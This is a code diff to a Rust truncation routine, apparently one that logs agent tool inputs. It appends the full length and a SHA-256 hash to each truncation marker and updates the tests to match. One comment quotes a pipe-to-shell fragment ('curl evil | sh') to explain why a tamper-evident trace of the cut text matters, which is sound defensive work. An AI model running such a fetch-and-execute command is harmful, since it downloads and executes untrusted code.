@@ -147,10 +147,14 @@ fn bound(value: &Value, depth: usize) -> Option<Value> {
             while !s.is_char_boundary(cut) {
                 cut -= 1;
             }
+            // The cut is marked with what was cut, the full length and the full string's
+            // SHA-256: the tail (`…; curl evil | sh`) leaves a trace that can be checked.
             Some(Value::String(format!(
-                "{}…[truncated {} bytes]",
+                "{}…[truncated {} of {} bytes, sha256 {}]",
                 &s[..cut],
-                s.len() - cut
+                s.len() - cut,
+                s.len(),
+                crate::sha256::hex(&crate::sha256::sha256(s.as_bytes()))
             )))
         }
         Value::Array(_) | Value::Object(_) if depth >= MAX_RECORDED_DEPTH => {
@@ -237,11 +241,12 @@ mod tests {
         assert_eq!(bounded["tool_input"]["a"], "kept");
         assert_eq!(bounded["tool_input"]["n"], 1);
         assert_eq!(bounded["mixed"][0], 1);
+        let digest = crate::sha256::hex(&crate::sha256::sha256("y".repeat(3000).as_bytes()));
         assert!(
             bounded["mixed"][1]
                 .as_str()
                 .unwrap()
-                .ends_with("…[truncated 952 bytes]")
+                .ends_with(&format!("…[truncated 952 of 3000 bytes, sha256 {digest}]"))
         );
         assert_eq!(bounded["mixed"][2], 3);
         assert_eq!(bounded["list"][0], 0);
@@ -251,7 +256,7 @@ mod tests {
         );
         let content = bounded["tool_input"]["content"].as_str().unwrap();
         assert!(
-            content.ends_with("…[truncated 2952 bytes]"),
+            content.contains("…[truncated 2952 of 5000 bytes, sha256 "),
             "{}",
             &content[2040..]
         );
